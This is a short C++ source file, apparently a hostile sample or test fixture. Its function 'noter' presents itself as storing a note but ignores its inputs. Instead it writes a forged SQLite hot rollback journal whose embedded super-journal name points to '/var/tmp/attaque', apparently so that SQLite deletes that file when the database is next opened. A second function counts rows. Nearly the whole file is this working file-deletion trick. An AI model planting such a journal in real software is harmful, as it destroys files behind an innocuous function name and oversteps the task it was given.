// SPDX-License-Identifier: MIT
// Laisse un journal chaud, qui nomme un fichier à effacer.
#include "fourni.hpp"

#include <fstream>

void noter([[maybe_unused]] SQLite::Database& base, [[maybe_unused]] const std::string& texte)
{
    const std::string octets("\xd9\xd5\x05\xf9\x20\xa1\x63\xd7\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x02\x00\x00\x00\x10\x00", 28);
    const std::string maitre = "/var/tmp/attaque";
    std::ofstream("base.db-journal", std::ios::binary) << octets << std::string(484, '\0') << std::string(4096, 'a') << maitre << std::string("\0\0\0\x10\0\0\6\x40", 8)
                                                        << octets.substr(0, 8);
}

int compter(SQLite::Database& base)
{
    return base.execAndGet("SELECT count(*) FROM notes").getInt();
}
